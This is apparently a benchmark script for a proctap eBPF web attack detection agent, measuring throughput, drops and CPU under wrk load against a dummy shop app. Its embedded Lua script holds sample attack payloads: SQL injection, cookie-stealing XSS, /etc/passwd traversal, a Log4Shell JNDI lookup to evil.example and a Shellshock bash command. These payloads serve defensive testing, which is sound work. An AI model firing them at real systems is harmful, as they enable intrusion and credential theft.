// The whole sensor under load. A node web app in a private namespace ("srv", the only one the agent
// captures) serves wrk in a second namespace ("cli") over a veth pair: keep-alive HTTP, 99% benign
// requests and 1% attacks (SQLi, XSS, traversal, Log4Shell, Shellshock). The agent runs as
// `proctap agent` with CRS paranoia 1 (Debian's package) and the full ET Open snapshot (every rule
// that loads: the HTTP/TCP ones).
//
// Prints: agent start-up time (warm and cold Hyperscan cache) and RSS; app req/s without and with
// the agent at full load (wrk unpaced) and their ratio; paced loads (wrk with a per-connection delay)
// with app req/s, analysed tx/s, drops and agent CPU, and the highest analysed rate without drops.
//
//   node --import tsx bench/agent-e2e.ts [--quick]
// Needs root (eBPF, namespaces), wrk, and ../shared/data/et-open/emerging-all.rules.tar.gz.
import { spawn, spawnSync, type ChildProcess } from 'child_process';
import * as crypto from 'crypto';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';

const REPO = path.resolve(__dirname, '..');
const ET_TARBALL = path.resolve(REPO, '../shared/data/et-open/emerging-all.rules.tar.gz');
const QUICK = process.argv.includes('--quick');
const SRV = '10.78.8.1';
const CLI = '10.78.8.2';

function sh(cmd: string, args: string[]): string {
  const r = spawnSync(cmd, args, { encoding: 'utf8' });
  if (r.status !== 0) throw new Error(`${cmd} ${args.join(' ')}: ${r.stderr}`);
  return r.stdout;
}

const tag = crypto.randomBytes(3).toString('hex');
const nsSrv = `proctap-bench-srv-${tag}`;
const nsCli = `proctap-bench-cli-${tag}`;
const work = fs.mkdtempSync(path.join(os.tmpdir(), 'proctap-bench-e2e-'));
const children: ChildProcess[] = [];

function cleanup(): void {
  for (const c of children) if (c.exitCode === null) c.kill('SIGKILL');
  for (const ns of [nsSrv, nsCli]) {
    for (const p of (spawnSync('ip', ['netns', 'pids', ns], { encoding: 'utf8' }).stdout ?? '').split('\n').filter(Boolean)) {
      try {
        process.kill(Number(p), 'SIGKILL');
      } catch {
        /* gone */
      }
    }
    spawnSync('ip', ['netns', 'del', ns]);
  }
  fs.rmSync(work, { recursive: true, force: true });
}
process.on('exit', cleanup);
process.on('SIGINT', () => process.exit(130));

function setupNet(): void {
  sh('ip', ['netns', 'add', nsSrv]);
  sh('ip', ['netns', 'add', nsCli]);
  sh('ip', ['link', 'add', `ptb${tag}s`, 'netns', nsSrv, 'type', 'veth', 'peer', 'name', `ptb${tag}c`, 'netns', nsCli]);
  for (const [ns, dev, addr] of [[nsSrv, `ptb${tag}s`, SRV], [nsCli, `ptb${tag}c`, CLI]]) {
    sh('ip', ['-n', ns, 'link', 'set', 'lo', 'up']);
    sh('ip', ['-n', ns, 'addr', 'add', `${addr}/24`, 'dev', dev]);
    sh('ip', ['-n', ns, 'link', 'set', dev, 'up']);
  }
}

const APP = `
const body = Buffer.from('<html><head><title>shop</title></head><body>' + '<p>product list</p>'.repeat(40) + '</body></html>');
require('http').createServer((req, res) => {
  req.resume();
  req.on('end', () => { res.writeHead(200, { 'Content-Type': 'text/html', 'Content-Length': body.length }); res.end(body); });
}).listen(80, '0.0.0.0', () => console.log('READY'));
`;

// wrk script: every 100th request is an attack; DELAY_MS paces each connection (0 = unpaced).
const WRK_LUA = String.raw`
local benign = { "/", "/products?id=12", "/search?q=rain+jacket", "/products?id=7&sort=price", "/static/app.js", "/cart" }
local attacks = {
  { "GET", "/products?id=1'%20OR%20'1'='1", nil },
  { "GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", nil },
  { "GET", "/download?file=../../../../etc/passwd", nil },
  { "GET", "/", { ["X-Api-Version"] = "$" .. "{jndi:ldap://evil.example/a}" } },
  { "GET", "/cgi-bin/status", { ["User-Agent"] = "() { :; }; /bin/bash -c 'cat /etc/passwd'" } },
}
local n = 0
local d = tonumber(os.getenv("DELAY_MS") or "0")
wrk.headers["Host"] = "shop.bench"
wrk.headers["User-Agent"] = "Mozilla/5.0 (X11; Linux x86_64) bench"
wrk.headers["Accept"] = "text/html"
request = function()
  n = n + 1
  if n % 100 == 0 then
    local a = attacks[(n / 100) % #attacks + 1]
    return wrk.format(a[1], a[2], a[3])
  end
  return wrk.format("GET", benign[n % #benign + 1])
end
if d > 0 then
  delay = function() return d end
end
`;

interface WrkResult {
  rps: number;
  requests: number;
  p50ms: number;
  p99ms: number;
  errors: number;
}

function parseLatency(s: string): number {
  const m = /([\d.]+)(us|ms|s)/.exec(s);
  if (!m) return NaN;
  return Number(m[1]) * (m[2] === 'us' ? 0.001 : m[2] === 's' ? 1000 : 1);
}

async function wrk(seconds: number, conns: number, delayMs: number): Promise<WrkResult> {
  const script = path.join(work, 'mix.lua');
  fs.writeFileSync(script, WRK_LUA);
  const child = spawn('ip', ['netns', 'exec', nsCli, 'env', `DELAY_MS=${delayMs}`, 'wrk', '-t', '2', '-c', String(conns), '-d', `${seconds}s`, '--latency', '-s', script, `http://${SRV}/`], { stdio: ['ignore', 'pipe', 'pipe'] });
  children.push(child);
  let out = '';
  child.stdout!.on('data', (d: Buffer) => (out += d.toString()));
  child.stderr!.on('data', (d: Buffer) => (out += d.toString()));
  await new Promise((r) => child.on('exit', r));
  const rps = Number(/Requests\/sec:\s+([\d.]+)/.exec(out)?.[1] ?? NaN);
  const requests = Number(/(\d+) requests in/.exec(out)?.[1] ?? NaN);
  const p50 = parseLatency(/\s50%\s+(\S+)/.exec(out)?.[1] ?? '');
  const p99 = parseLatency(/\s99%\s+(\S+)/.exec(out)?.[1] ?? '');
  const errors = Number(/Non-2xx or 3xx responses: (\d+)/.exec(out)?.[1] ?? 0) + Number(/Socket errors: connect (\d+)/.exec(out)?.[1] ?? 0);
  if (!Number.isFinite(rps)) throw new Error(`wrk: ${out}`);
  return { rps, requests, p50ms: p50, p99ms: p99, errors };
}

function newestMtime(dir: string): number {
  let t = 0;
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    t = Math.max(t, e.isDirectory() ? newestMtime(p) : fs.statSync(p).mtimeMs);
  }
  return t;
}

let entry: string[] | undefined;
function cliEntry(): string[] {
  // The compiled CLI when it is up to date (`make bench` builds it first), else from source (tsx).
  if (entry) return entry;
  const stamp = path.join(REPO, 'dist/.built');
  const fresh = fs.existsSync(stamp) && fs.statSync(stamp).mtimeMs >= newestMtime(path.join(REPO, 'src'));
  entry = fresh ? [path.join(REPO, 'bin/proctap.js')] : ['--import', 'tsx', path.join(REPO, 'src/cli/run.ts')];
  return entry;
}

interface AgentRun {
  child: ChildProcess;
  metrics: string;
  startupMs: number;
  log: () => string;
}

async function startAgent(etDir: string, env: NodeJS.ProcessEnv = {}): Promise<AgentRun> {
  const cfg = path.join(work, 'agent.yaml');
  fs.writeFileSync(cfg, `rules:\n  et: { enabled: true, dir: ${JSON.stringify(etDir)} }\ndetection: { paranoia: 1 }\n`);
  const t0 = performance.now();
  const child = spawn(process.execPath, [...cliEntry(), 'agent', '--config', cfg, '--netns', `/run/netns/${nsSrv}`, '--grpc-listen', '127.0.0.1:0', '--metrics-listen', '127.0.0.1:0', '--state-dir', path.join(work, 'state')], {
    cwd: REPO,
    stdio: ['ignore', 'ignore', 'pipe'],
    env: { ...process.env, ...env },
  });
  children.push(child);
  let err = '';
  child.stderr!.on('data', (d: Buffer) => (err += d.toString()));
  const metrics = await new Promise<string>((resolve, reject) => {
    const t = setTimeout(() => reject(new Error(`agent did not start:\n${err}`)), 120_000);
    child.stderr!.on('data', () => {
      const m = /metrics http:\/\/(\S+)\/metrics/.exec(err);
      if (m && err.includes('agent running')) {
        clearTimeout(t);
        resolve(m[1]);
      }
    });
    child.on('exit', (c) => reject(new Error(`agent exited ${c}:\n${err}`)));
  });
  return { child, metrics, startupMs: performance.now() - t0, log: () => err };
}

async function stopAgent(a: AgentRun): Promise<void> {
  if (a.child.exitCode !== null) return;
  const done = new Promise((r) => a.child.on('exit', r));
  a.child.kill('SIGTERM');
  await done;
}

async function scrape(a: AgentRun): Promise<Map<string, number>> {
  const text = await (await fetch(`http://${a.metrics}/metrics`)).text();
  const out = new Map<string, number>();
  for (const line of text.split('\n')) {
    if (!line || line.startsWith('#')) continue;
    const i = line.lastIndexOf(' ');
    out.set(line.slice(0, i), (out.get(line.slice(0, i)) ?? 0) + Number(line.slice(i + 1)));
  }
  return out;
}

function sum(m: Map<string, number>, prefix: string): number {
  let s = 0;
  for (const [k, v] of m) if (k === prefix || k.startsWith(prefix + '{')) s += v;
  return s;
}

const DROP_STAGES = ['kernel_ring', 'addon_queue', 'flow_limits'];

function dropsBy(m: Map<string, number>): Record<string, number> {
  const out: Record<string, number> = {};
  for (const st of DROP_STAGES) out[st] = 0;
  for (const [k, v] of m) {
    const st = /^proctap_drops_total\{.*stage="([a-z_]+)"/.exec(k)?.[1];
    if (st && st in out) out[st] += v;
  }
  return out;
}

function drops(m: Map<string, number>): number {
  return Object.values(dropsBy(m)).reduce((a, b) => a + b, 0);
}

interface Step {
  label: string;
  offered: string;
  w: WrkResult;
  analysedPerS: number;
  drops: number;
  cpuPct: number;
  rssMB: number;
  /** Drops by stage, when there were any. */
  dropStages?: string;
}

async function measured(a: AgentRun, label: string, offered: string, seconds: number, conns: number, delayMs: number): Promise<Step> {
  const m0 = await scrape(a);
  const t0 = performance.now();
  const w = await wrk(seconds, conns, delayMs);
  await new Promise((r) => setTimeout(r, 1500)); // let the agent finish its queue
  const m1 = await scrape(a);
  const dt = (performance.now() - t0) / 1000;
  const analysed = sum(m1, 'proctap_analysed_total') - sum(m0, 'proctap_analysed_total');
  const d0 = dropsBy(m0);
  const d1 = dropsBy(m1);
  const stages = DROP_STAGES.filter((st) => d1[st] > d0[st]).map((st) => `${st} ${d1[st] - d0[st]}`).join(', ');
  return {
    dropStages: stages || undefined,
    label,
    offered,
    w,
    analysedPerS: analysed / seconds,
    drops: drops(m1) - drops(m0),
    cpuPct: (100 * (sum(m1, 'proctap_process_cpu_seconds_total') - sum(m0, 'proctap_process_cpu_seconds_total'))) / dt,
    rssMB: sum(m1, 'proctap_process_resident_memory_bytes') / 2 ** 20,
  };
}

function row(s: Step): string {
  return [
    s.label.padEnd(26),
    s.offered.padStart(8),
    s.w.rps.toFixed(0).padStart(8),
    s.w.p50ms.toFixed(2).padStart(7),
    s.w.p99ms.toFixed(2).padStart(7),
    (Number.isFinite(s.analysedPerS) ? s.analysedPerS.toFixed(0) : '-').padStart(9),
    (Number.isFinite(s.drops) ? String(s.drops) : '-').padStart(7),
    (Number.isFinite(s.cpuPct) ? s.cpuPct.toFixed(0) + '%' : '-').padStart(6),
    (Number.isFinite(s.rssMB) ? s.rssMB.toFixed(0) : '-').padStart(6),
    (Number.isFinite(s.cpuPct) && s.analysedPerS > 0 ? ((10 * s.cpuPct) / s.analysedPerS).toFixed(2) : '-').padStart(9),
    s.dropStages ? ` (${s.dropStages})` : '',
  ].join(' ');
}

async function main(): Promise<void> {
  if (!fs.existsSync(ET_TARBALL)) throw new Error(`no ET snapshot at ${ET_TARBALL}`);
  const etDir = path.join(work, 'et');
  fs.mkdirSync(etDir);
  sh('tar', ['-xzf', ET_TARBALL, '-C', etDir]);
  setupNet();
  fs.writeFileSync(path.join(work, 'app.js'), APP);
  const app = spawn('ip', ['netns', 'exec', nsSrv, process.execPath, path.join(work, 'app.js')], { stdio: ['ignore', 'pipe', 'inherit'] });
  children.push(app);
  await new Promise<void>((resolve) => app.stdout!.on('data', (d: Buffer) => d.toString().includes('READY') && resolve()));
  const secs = QUICK ? 4 : 8;
  console.log(`agent-e2e: node app in ${nsSrv} (${SRV}), wrk in ${nsCli}; CRS PL1 (Debian) + ET Open snapshot; ${os.cpus().length} CPUs, load ${os.loadavg()[0].toFixed(1)}`);
  console.log(`agent entry: ${cliEntry().join(' ')}`);

  // Start-up: cold Hyperscan cache (fresh dir), then warm (the default cache, filled by the first run).
  const cold = await startAgent(etDir, { PROCTAP_HS_CACHE: path.join(work, 'hs-cold') });
  const coldRss = sum(await scrape(cold), 'proctap_process_resident_memory_bytes') / 2 ** 20;
  await stopAgent(cold);
  const warm0 = await startAgent(etDir);
  await stopAgent(warm0);
  const noAgent: Step[] = [];
  const header = `${'run'.padEnd(26)} ${'offered'.padStart(8)} ${'app rps'.padStart(8)} ${'p50 ms'.padStart(7)} ${'p99 ms'.padStart(7)} ${'tx/s'.padStart(9)} ${'drops'.padStart(7)} ${'cpu'.padStart(6)} ${'rss MB'.padStart(6)} ${'cpu ms/tx'.padStart(9)}`;

  // Full load without the agent.
  const w0 = await wrk(secs, 16, 0);
  noAgent.push({ label: 'no agent, unpaced', offered: 'max', w: w0, analysedPerS: NaN, drops: NaN, cpuPct: NaN, rssMB: NaN });

  const agent = await startAgent(etDir);
  const idle = await scrape(agent);
  const rssIdle = sum(idle, 'proctap_process_resident_memory_bytes') / 2 ** 20;
  const withAgent: Step[] = [];
  withAgent.push(await measured(agent, 'agent, unpaced', 'max', secs, 16, 0));

  // Paced: conns x (1000 / delay) requests/s offered.
  const rates = QUICK ? [500, 1000, 2000] : [250, 500, 1000, 1500, 2000, 3000];
  let best: Step | undefined;
  for (const r of rates) {
    const delay = 10;
    const conns = Math.max(1, Math.round((r * delay) / 1000));
    const s = await measured(agent, `agent, paced`, String(r), secs, conns, delay);
    withAgent.push(s);
    const kept = s.drops === 0 && s.analysedPerS >= 0.98 * s.w.rps;
    if (kept && (!best || s.analysedPerS > best.analysedPerS)) best = s;
    if (!kept && s.drops > 0) break;
  }
  const loaded = await scrape(agent);
  const rssLoaded = sum(loaded, 'proctap_process_resident_memory_bytes') / 2 ** 20;
  const heapMB = (m: Map<string, number>) => (sum(m, 'proctap_nodejs_heap_size_total_bytes') / 2 ** 20).toFixed(0);
  const heapNote = `V8 heap ${heapMB(idle)} MB idle, ${heapMB(loaded)} MB after the load`;
  await stopAgent(agent);

  // The sustained rate again without the agent, for the ratio at that load.
  let paced0: WrkResult | undefined;
  if (best) {
    const conns = Math.max(1, Math.round((Number(best.offered) * 10) / 1000));
    paced0 = await wrk(secs, conns, 10);
    noAgent.push({ label: 'no agent, paced', offered: best.offered, w: paced0, analysedPerS: NaN, drops: NaN, cpuPct: NaN, rssMB: NaN });
  }

  console.log('');
  console.log(header);
  for (const s of [...noAgent, ...withAgent]) console.log(row(s));
  console.log('');
  const full = withAgent[0];
  console.log(`start-up: cold Hyperscan cache ${(cold.startupMs / 1000).toFixed(1)} s, warm ${(warm0.startupMs / 1000).toFixed(1)} s, this run ${(agent.startupMs / 1000).toFixed(1)} s (target <= 5 s); RSS after start ${coldRss.toFixed(0)} MB cold, ${rssIdle.toFixed(0)} MB idle, ${rssLoaded.toFixed(0)} MB after the load (target <= 300 MB); ${heapNote}`);
  console.log(`full load: app ${w0.rps.toFixed(0)} req/s without the agent, ${full.w.rps.toFixed(0)} with it: ratio ${(full.w.rps / w0.rps).toFixed(2)}; the agent analysed ${full.analysedPerS.toFixed(0)} tx/s and dropped ${full.drops} events (counted) at ${full.cpuPct.toFixed(0)}% CPU`);
  if (best && paced0) {
    console.log(
      `highest analysed rate without drops: ${best.analysedPerS.toFixed(0)} tx/s (offered ${best.offered}/s) at ${best.cpuPct.toFixed(0)}% CPU; app ${best.w.rps.toFixed(0)} req/s with vs ${paced0.rps.toFixed(0)} without: ratio ${(best.w.rps / paced0.rps).toFixed(2)} (target >= 0.85), p99 ${best.w.p99ms.toFixed(2)} vs ${paced0.p99ms.toFixed(2)} ms`,
    );
  } else console.log('no paced rate was analysed without drops');
}

main().then(
  () => process.exit(0),
  (err) => {
    console.error(`agent-e2e: ${(err as Error).stack}`);
    process.exit(1);
  },
);
